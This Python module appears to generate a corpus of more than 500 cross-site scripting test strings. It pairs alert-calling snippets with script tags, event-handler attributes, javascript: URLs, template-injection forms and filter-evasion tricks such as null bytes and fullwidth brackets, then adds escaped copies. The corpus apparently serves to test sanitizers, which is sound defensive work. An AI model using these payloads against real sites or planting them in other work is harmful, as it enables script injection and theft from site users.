"""At least 500 texts that try to become a program in somebody's browser; each calls `alert` where it succeeds."""

from html import escape
from urllib.parse import quote

CALLS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "window.onerror=alert;throw 1",
    "eval(atob('YWxlcnQoMSk='))",
    "\\u0061lert(1)",
    "setTimeout('alert(1)')",
    "import('data:text/javascript,alert(1)')",
)
FORMS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script>",
    "<script>{}<!--",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<!--><script>{}</script>-->",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '<img src="x" onerror="{}">',
    "<img/src/onerror={}>",
    "<img src=x\nonerror\n=\n{}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:{}'>x",
    "<body onload={}>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button autofocus>x",
    "<button formaction='javascript:{}'>x</button>",
    "<input onfocus={} autofocus>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<a href='javascript:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='data:,*{{x:expression({})}}'>",
    "<style>@import 'javascript:{}';</style>",
    "<div style='background:url(javascript:{})'>",
    "<x onclick={} tabindex=1 autofocus onfocus={}>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus='",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "javascript:{}",
    'https://example.org/"onmouseover="{}',
    "https://example.org/<script>{}</script>",
    "javascript://example.org/%0a{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% load x %}}{{{{ {} }}}}",
    "<p hx-get='x' hx-on:click='{}' hx-trigger='load'>",
    "<div hx-on::load=\"{}\" data-hx-on:htmx:load='{}'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<isindex action='javascript:{}' type=image>",
    "<table background='javascript:{}'>",
    "<!doctype x [<!entity y '<script>{}</script>'>]>&y;",
    "\u2028<script>{}</script>\u2029",
    "\u202e<script>{}</script>\u202c",
    "<scr\u0000ipt>{}</scr\u0000ipt>",
    "＜script＞{}＜/script＞",
)


def texts() -> list[str]:
    """All of them, some packed a second time as they travel through pages and addresses."""
    plain = [form.replace("{}", call).replace("{{", "{").replace("}}", "}") for form in FORMS for call in CALLS]
    packed = [
        pack(one) for one in plain[:: len(CALLS) + 1] for pack in (escape, quote, lambda text: escape(escape(text)))
    ]
    return list(dict.fromkeys([*plain, *packed]))
